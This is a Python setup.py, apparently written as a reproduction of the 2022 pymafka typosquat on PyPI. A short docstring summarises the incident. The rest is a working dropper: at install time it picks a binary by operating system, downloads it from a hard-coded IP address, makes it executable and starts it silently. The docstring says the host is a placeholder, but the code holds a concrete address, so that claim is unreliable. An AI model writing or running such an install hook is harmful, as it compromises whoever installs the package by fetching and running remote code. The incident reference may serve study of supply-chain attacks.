"""Incident: pymafka (PyPI), 17 May 2022, a typosquat of the popular PyKafka.

Its setup.py detected the operating system, downloaded a matching binary (a Cobalt Strike
beacon) to a temporary path, made it executable and started it during installation.
Reference: https://sonatype.com/blog/new-pymafka-malicious-package-drops-cobalt-strike-on-macos-windows-linux
Reproduction (own code, placeholder host).
"""

import os
import platform
import stat
import subprocess
import urllib.request

from setuptools import setup


def _drop() -> None:
    name = {"Linux": "env", "Darwin": "MacOs", "Windows": "win.exe"}.get(platform.system(), "env")
    target = os.path.join("/tmp" if os.name != "nt" else os.environ["TEMP"], name)
    urllib.request.urlretrieve(f"http://141.11.186.154/{name}", target)
    os.chmod(target, os.stat(target).st_mode | stat.S_IEXEC)
    subprocess.Popen([target], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


_drop()

setup(name="pymafka", version="2.0.0", packages=["pymafka"])
